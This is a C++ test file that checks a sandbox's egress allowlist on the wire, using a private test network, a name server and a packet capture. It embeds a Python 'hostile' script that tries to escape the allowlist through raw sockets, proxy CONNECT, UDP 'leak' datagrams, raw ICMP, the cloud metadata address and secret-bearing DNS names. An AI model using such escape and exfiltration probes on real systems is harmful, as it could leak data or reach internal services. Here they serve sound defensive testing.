// What leaves this host for a sandbox with a list, seen on the wire: in a network of the test's
// own, where the host's side runs, a server to be reached, a name server that remembers, and a
// capture.

#include <fmt/format.h>
#include <gtest/gtest.h>

#include <set>
#include <string>

#include "casemate/conformance/conformance.h"
#include "casemate/conformance/subject.h"
#include "casemate/egress/gateway_test.h"
#include "tests/linux/linux_test.h"
#include "tests/support/name_server.h"
#include "tests/support/own_network.h"
#include "tests/support/packet_capture.h"

namespace casemate::linux_tests {
namespace {

const auto* const kNetwork = ::testing::AddGlobalTestEnvironment(new OwnNetwork);

// Answers any request of HTTP and closes.
void answer_http(const Stream& stream) {
  std::string head;
  while (head.find("\r\n\r\n") == std::string::npos) {
    const std::string byte = stream.read(1);
    if (byte.empty()) return;
    head += byte;
  }
  stream.send("HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
}

class LinuxEgressWire : public LinuxTest {
 protected:
  void SetUp() override {
    if (!OwnNetwork::why_not().empty()) GTEST_SKIP() << OwnNetwork::why_not();
    LinuxTest::SetUp();
  }

  static SandboxSpec listed(std::initializer_list<const char*> hosts) {
    SandboxSpec spec = LinuxTest::spec();
    spec.egress = Egress::allowlist;
    for (const char* host : hosts) spec.egress_allow.push_back(HostPattern::parse(host));
    return spec;
  }
};

// Prints "reached WHAT" for each that was, and "done".
constexpr const char* kHostile = R"py(
import os, socket, urllib.request

def attempt(name, act):
    try:
        if act():
            print("reached", name)
    except OSError:
        pass

def http(url, proxies):
    opener = urllib.request.build_opener(urllib.request.ProxyHandler(proxies))
    return opener.open(url, timeout=10).read() == b"hello"

def raw(host, port=80):
    with socket.create_connection((host, port), timeout=5) as stream:
        stream.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        return stream.recv(100).startswith(b"HTTP/1.1 200")

def datagram(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.settimeout(0.5)
        sender.sendto(b"leak", (host, port))
        return False

def raw_packet(family):
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sender:
        sender.sendto(b"\x08\0\0\0\0\0\0\0", ("203.0.113.8", 0))
        return True

def through_proxy(target):
    proxy = os.environ["HTTP_PROXY"].rsplit("/", 1)[1].rsplit(":", 1)
    with socket.create_connection((proxy[0], int(proxy[1])), timeout=10) as stream:
        stream.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return stream.recv(100).split(b" ")[1:2] == [b"200"]

attempt("by the proxy", lambda: http("http://allowed.test/", None))
attempt("without a proxy", lambda: http("http://allowed.test/", {}))
attempt("by a socket", lambda: raw("allowed.test"))
for host in ("denied.test", "a-secret.denied.test", "203.0.113.7", "203.0.113.8", "2001:db8::7",
             "127.0.0.1", "::1", "169.254.169.254", "8.8.8.8", "inside.test"):
    attempt("socket " + host, lambda: raw(host))
    attempt("proxy " + host, lambda: through_proxy(f"[{host}]:80" if ":" in host else f"{host}:80"))
attempt("another port", lambda: raw("allowed.test", 22))
for host in ("203.0.113.7", "203.0.113.8", "8.8.8.8", "2001:db8::7"):
    for port in (53, 80, 443):
        attempt("datagram", lambda: datagram(host, port))
attempt("a raw packet", lambda: raw_packet(socket.AF_INET))
for name in ("denied.test", "a-secret.denied.test", "allowed.test.denied.test"):
    attempt("name " + name, lambda: socket.getaddrinfo(name, 80))
print("done")
)py";

TEST_F(LinuxEgressWire, NothingLeavesButTheAllowedFlowAndNoRefusedNameIsAskedFor) {
  PacketCapture capture;
  const NameServer names(
      {{"allowed.test", kPublicIpv4}, {"denied.test", kOtherIpv4}, {"inside.test", "127.0.0.1"}});
  const Origin origin(kPublicIpv4, 80, answer_http);
  const Origin other(kOtherIpv4, 80, answer_http);
  const Origin inside("127.0.0.1", 80, answer_http);
  const auto sandbox = backend().acquire(key(), listed({"allowed.test", "inside.test"}), {});
  const ExecResult result = sandbox->exec(python(kHostile), {});
  EXPECT_EQ(result.stdout,
            "reached by the proxy\nreached without a proxy\nreached by a socket\ndone\n")
      << result.stderr;

  const std::string control = send_control_packet();
  ASSERT_TRUE(capture.read_until(control))
      << "the capture saw no packet that was there: it proves nothing";
  ASSERT_TRUE(capture.destinations().contains(fmt::format("tcp {}:80", kPublicIpv4)))
      << "nor the flow that was";
  for (const std::string& destination : capture.destinations()) {
    const bool flow = destination.starts_with(fmt::format("tcp {}:", kPublicIpv4));
    const bool look_up = destination.starts_with("udp 127.0.0.1:");
    EXPECT_TRUE(flow || look_up || destination == control) << destination;
  }
  EXPECT_EQ(other.connections(), 0);
  EXPECT_EQ(inside.connections(), 0);
  const std::vector<std::string> asked = names.asked();
  EXPECT_EQ(std::set<std::string>(asked.begin(), asked.end()),
            (std::set<std::string>{"allowed.test", "inside.test"}));
}

// The conformance suite, with names, against servers of this network.
TEST_F(LinuxEgressWire, TheEgressSuiteHoldsByName) {
  const NameServer names({{"allowed.test", kPublicIpv4}, {"denied.test", kOtherIpv4}});
  const Origin origin(kPublicIpv4, 80, answer_http);
  const Origin other(kOtherIpv4, 80, answer_http);
  class Named : public conformance::Subject {
   public:
    using Subject::Subject;
    std::optional<conformance::EgressTargets> egress_targets() override {
      return conformance::EgressTargets{.allowed_url = "http://allowed.test/",
                                        .denied_url = "http://denied.test/",
                                        .allow = {HostPattern::parse("allowed.test")}};
    }
  };
  Named subject(another_backend());
  conformance::ConformanceOptions options;
  options.suites = {conformance::Suite::egress};
  const conformance::Report report = conformance::run_conformance(subject, options);
  EXPECT_EQ(report.failures(), "");
  EXPECT_EQ(report.count(conformance::Status::passed), 4U);
  EXPECT_EQ(other.connections(), 0);
}

}  // namespace
}  // namespace casemate::linux_tests
